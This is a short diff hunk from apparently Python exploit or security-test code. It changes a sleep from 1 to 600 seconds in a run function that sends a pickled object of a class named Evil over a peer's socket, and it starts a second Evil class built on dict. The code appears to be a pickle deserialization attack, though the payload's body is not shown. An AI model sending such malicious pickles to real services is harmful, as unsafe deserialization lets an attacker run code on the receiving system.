@@ -79,7 +79,7 @@ class Evil:
 
 def run(args, ctx):
     ctx._talk._socket.sendall(frame(pickle.dumps(Evil())))
-    time.sleep(1)
+    time.sleep(600)
 """
 OBJECT = """
 class Evil(dict):
